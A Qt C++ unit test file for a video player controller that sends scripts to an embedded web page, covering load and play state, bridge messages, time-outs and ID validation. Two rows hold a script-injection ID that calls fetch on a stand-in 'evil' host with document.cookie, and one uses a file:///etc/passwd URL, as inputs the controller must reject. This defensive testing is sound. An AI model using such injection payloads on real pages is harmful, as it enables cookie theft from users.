#include "PlayerController.h"
#include "Bridge.h"

#include <QJsonArray>
#include <QJsonDocument>
#include <QRegularExpression>
#include <QSignalSpy>
#include <QTest>
#include <memory>

using namespace clipvane;

namespace {

// Records every script the controller sends.
struct FakePage : PlayerPage
{
    explicit FakePage(QStringList &log)
        : log(log)
    {}
    void runScript(const QString &script) override { log << script; }
    QStringList &log;
};

// A time-out the test fires by hand.
struct FakeTimer : OneShotTimer
{
    void start(std::chrono::milliseconds interval, std::function<void()> fire) override
    {
        lastInterval = interval;
        onFire = std::move(fire);
        active = true;
    }
    void stop() override { active = false; }
    bool isActive() const override { return active; }
    void fire()
    {
        if (std::exchange(active, false))
            onFire();
    }
    std::chrono::milliseconds lastInterval{0};
    std::function<void()> onFire;
    bool active = false;
};

QJsonValue parsed(const QString &json)
{
    QJsonParseError error{};
    const QJsonDocument document = QJsonDocument::fromJson((u'[' + json + u']').toUtf8(), &error);
    if (error.error != QJsonParseError::NoError)
        qFatal("bad JSON in a test row: %s", qPrintable(json));
    return document.array().at(0);
}

// A row's text with video A and video B spelled out, as IDs and as script arguments.
QString withIDs(const char *text)
{
    static const QList<QPair<QString, QString>> ids{{u"A"_qs, u"dQw4w9WgXcQ"_qs}, {u"B"_qs, u"9bZkp7q19f0"_qs}};
    QString out = QString::fromUtf8(text);
    for (const auto &[token, id] : ids) {
        out.replace(u'(' + token + u')', u"(\""_qs + id + u"\")"_qs);
        out.replace(QRegularExpression(u"\\b"_qs + token + u"\\b"_qs), id);
    }
    return out;
}

// Drives one controller through a row's steps, written as one text separated by ", ":
//   attach        a new page (the earlier one stays alive)
//   drop          the current page goes away
//   ready         the page says it is ready
//   msg JSON      the page posts JSON through the bridge
//   load ID 0|1   load with autoplay off or on
//   play, pause   the operations of the same names
//   timeout       the loading time-out expires (when it runs)
struct Harness
{
    QStringList scripts;
    FakeTimer *timer = new FakeTimer;
    PlayerController controller{std::unique_ptr<OneShotTimer>(timer)};
    Bridge bridge{controller};
    std::vector<std::unique_ptr<FakePage>> pages;

    void run(const QString &steps)
    {
        for (const QString &step : steps.split(u", "_qs, Qt::SkipEmptyParts)) {
            const QString verb = step.section(u' ', 0, 0);
            const QString rest = step.section(u' ', 1);
            if (verb == u"attach") {
                pages.push_back(std::make_unique<FakePage>(scripts));
                controller.attach(pages.back().get());
            } else if (verb == u"drop") {
                pages.back().reset();
            } else if (verb == u"ready") {
                bridge.postMessage(parsed(uR"({"t":"ready"})"_qs));
            } else if (verb == u"msg") {
                bridge.postMessage(parsed(rest));
            } else if (verb == u"load") {
                controller.load(rest.section(u' ', 0, 0), rest.section(u' ', 1, 1) == u"1");
            } else if (verb == u"play") {
                controller.play();
            } else if (verb == u"pause") {
                controller.pause();
            } else if (verb == u"timeout") {
                timer->fire();
            } else {
                qFatal("unknown step %s", qPrintable(step));
            }
        }
    }
};

} // namespace

class PlayerControllerTest : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void steps_data()
    {
        QTest::addColumn<QString>("steps");
        QTest::addColumn<QString>("scripts"); // every script sent, separated by " "
        QTest::addColumn<bool>("playing");
        QTest::addColumn<bool>("loading");
        QTest::addColumn<QString>("error"); // empty: none
        QTest::addColumn<QString>("pending");

        const auto row = [](const char *name, const char *steps, const char *scripts, bool playing, bool loading,
                            const char *error, const char *pending = "") {
            QTest::newRow(name) << withIDs(steps) << withIDs(scripts) << playing << loading
                                << QString::fromLatin1(error) << withIDs(pending);
        };

        // Waiting for the page.
        row("no page: load waits", "load A 1", "", false, false, "", "A");
        row("attached, not ready: load waits", "attach, load A 0", "", false, false, "", "A");
        row("ready sends the pending cue", "attach, load A 0, ready", "cueVideo(A)", false, true, "");
        row("ready sends the pending load", "attach, load A 1, ready", "loadVideo(A)", true, true, "");
        row("two loads before ready: only the second, with its own flag", "attach, load A 1, load B 0, ready",
            "cueVideo(B)", false, true, "");
        row("second ready with nothing pending sends nothing", "attach, ready, load A 0, ready", "cueVideo(A)", false,
            true, "");
        row("play before ready only changes the flag", "attach, play", "", true, false, "");

        // The same video again.
        row("same video without autoplay does nothing", "attach, ready, load A 0, load A 0", "cueVideo(A)", false, true,
            "");
        row("same video with autoplay only plays", "attach, ready, load A 0, load A 1", "cueVideo(A) play()", true,
            true, "");

        // The state table, after "attach, ready, load A 1".
        const auto after = [&row](const char *name, const char *more, bool playing, bool loading,
                                  const char *error = "") {
            row(name, (QByteArray("attach, ready, load A 1, ") + more).constData(), "loadVideo(A)", playing, loading,
                error);
        };
        after("state 1 plays, ends loading", R"(msg {"t":"state","s":1})", true, false);
        after("state 0 ends", R"(msg {"t":"state","s":0})", false, false);
        after("state 2 pauses", R"(msg {"t":"state","s":2})", false, false);
        after("state 5 cued", R"(msg {"t":"state","s":5})", false, false);
        after("state -1 ignored", R"(msg {"t":"state","s":-1})", true, true);
        after("state 3 ignored", R"(msg {"t":"state","s":3})", true, true);
        after("state 4 only ends loading", R"(msg {"t":"state","s":4})", true, false);
        after("state 1.0 is the integer 1", R"(msg {"t":"state","s":1.0})", true, false);
        after("state without a number is -1", R"(msg {"t":"state"})", true, true);
        after("state as text is -1", R"(msg {"t":"state","s":"1"})", true, true);
        after("state 1.5 is -1", R"(msg {"t":"state","s":1.5})", true, true);
        after("state beyond int is -1", R"(msg {"t":"state","s":1e300})", true, true);

        // Errors.
        after("error 150", R"(msg {"t":"error","c":150})", false, false, "150");
        after("error without code is -1", R"(msg {"t":"error"})", false, false, "-1");
        row("play keeps the error", R"(attach, ready, load A 1, msg {"t":"error","c":101}, play)",
            "loadVideo(A) play()", true, false, "101");
        after("same video keeps the error", R"(msg {"t":"error","c":101}, load A 0)", false, false, "101");
        row("another video clears the error", R"(attach, ready, load A 1, msg {"t":"error","c":101}, load B 0)",
            "loadVideo(A) cueVideo(B)", false, true, "");

        // Malformed messages change nothing.
        after("text body", R"(msg "ready")", true, true);
        after("array body", R"(msg [{"t":"error"}])", true, true);
        after("null body", "msg null", true, true);
        after("no type", R"(msg {"s":1})", true, true);
        after("type not text", R"(msg {"t":1,"s":1})", true, true);
        after("unknown type", R"(msg {"t":"volume","s":1})", true, true);

        after("time-out ends loading only", "timeout", true, false);

        // A new web view.
        row("re-attach while playing loads again", "attach, ready, load A 1, attach, ready",
            "loadVideo(A) loadVideo(A)", true, true, "");
        row("re-attach while paused cues again", "attach, ready, load A 1, pause, attach, ready",
            "loadVideo(A) pause() cueVideo(A)", false, true, "");
        row("the old page gets nothing after re-attach", "attach, ready, load A 1, attach, play", "loadVideo(A)", true,
            true, "", "A");
        row("page gone while ready: load waits", "attach, ready, load A 1, drop, load B 0", "loadVideo(A)", true, true,
            "", "B");
        row("page gone: pause only changes the flag", "attach, ready, load A 1, drop, pause", "loadVideo(A)", false,
            true, "");

        // Hostile or unplayable IDs are never loaded nor kept pending.
        row("hostile ID, ready", "attach, ready, load a');fetch('//evil/'+document.cookie);(' 1", "", false, false, "");
        row("hostile ID before ready", "attach, load a');fetch('//evil/'+document.cookie);(' 1, ready", "", false,
            false, "");
        row("x- record", "attach, ready, load x-abcdef12 1", "", false, false, "");
        row("quote inside an ID", "attach, ready, load abc\"def 0", "", false, false, "");
    }

    void steps()
    {
        QFETCH(QString, steps);
        QFETCH(QString, scripts);
        QFETCH(bool, loading);
        QFETCH(QString, error);

        Harness h;
        h.run(steps);
        QCOMPARE(h.scripts.join(u' '), scripts);
        QTEST(h.controller.isPlaying(), "playing");
        QCOMPARE(h.controller.isLoading(), loading);
        QCOMPARE(h.timer->isActive(), loading);
        if (loading)
            QCOMPARE(h.timer->lastInterval, std::chrono::milliseconds(PlayerController::kLoadingTimeout));
        QCOMPARE(h.controller.embedError(), error.isEmpty() ? std::optional<int>() : std::optional<int>(error.toInt()));
        QTEST(h.controller.pendingID().value_or(QString()), "pending");
    }

    void changeSignalsFollowTheValues()
    {
        Harness h;
        QSignalSpy playing(&h.controller, &PlayerController::isPlayingChanged);
        QSignalSpy loading(&h.controller, &PlayerController::isLoadingChanged);
        QSignalSpy error(&h.controller, &PlayerController::embedErrorChanged);
        h.run(uR"(attach, ready, load dQw4w9WgXcQ 1, msg {"t":"error","c":2})"_qs);
        QCOMPARE(playing.count(), 2); // on, then off by the error
        QCOMPARE(loading.count(), 2);
        QCOMPARE(error.count(), 1);
    }

    void aBridgeOutlivingItsControllerIsHarmless()
    {
        auto controller = std::make_unique<PlayerController>();
        Bridge bridge(*controller);
        controller.reset();
        bridge.postMessage(parsed(QStringLiteral(R"({"t":"ready"})")));
    }

    void playableIDs_data()
    {
        QTest::addColumn<QString>("id");
        QTest::addColumn<bool>("playable");
        QTest::newRow("YouTube ID") << u"dQw4w9WgXcQ"_qs << true;
        QTest::newRow("with - and _") << u"a-b_c-d_e"_qs << true;
        QTest::newRow("letters of other scripts") << u"видеоролик"_qs << true;
        QTest::newRow("x- record") << u"x-1234567"_qs << false;
        QTest::newRow("too short") << u"abcde"_qs << false;
        QTest::newRow("empty") << QString() << false;
        QTest::newRow("quote") << u"abc'def"_qs << false;
        QTest::newRow("backslash") << u"abc\\def"_qs << false;
        QTest::newRow("space") << u"abc def"_qs << false;
        QTest::newRow("line separator") << QString::fromUtf16(u"abcdef\u2028") << false;
        QTest::newRow("unpaired surrogate") << u"abcdef"_qs + QChar(0xD800) << false;
    }

    void playableIDs()
    {
        QFETCH(QString, id);
        QTEST(PlayerController::isPlayableID(id), "playable");
    }

    // The stored address when it is a web address, else the short link.
    void addresses_data()
    {
        QTest::addColumn<QString>("url");
        QTest::addColumn<QString>("expected");
        const QString stored = u"https://www.youtube.com/watch?v=dQw4w9WgXcQ"_qs;
        const QString shortLink = u"https://youtu.be/dQw4w9WgXcQ"_qs;
        QTest::newRow("stored link") << stored << stored;
        QTest::newRow("empty") << QString() << shortLink;
        QTest::newRow("not a web address") << u"file:///etc/passwd"_qs << shortLink;
        QTest::newRow("relative") << u"watch"_qs << shortLink;
    }
    void addresses()
    {
        QFETCH(QString, url);
        QTEST(PlayerController::videoAddress(u"dQw4w9WgXcQ"_qs, url).toString(), "expected");
    }

    void playerPageOnTheServiceOrigin()
    {
        QCOMPARE(PlayerController::playerPageURL(QUrl(u"http://127.0.0.1:8470/api"_qs)).toString(),
                 u"http://127.0.0.1:8470/player.html"_qs);
        QCOMPARE(PlayerController::playerPageURL(QUrl(u"https://clipvane.example/sub/api/"_qs)).toString(),
                 u"https://clipvane.example/player.html"_qs);
    }
};

QTEST_GUILESS_MAIN(PlayerControllerTest)
#include "PlayerControllerTest.moc"
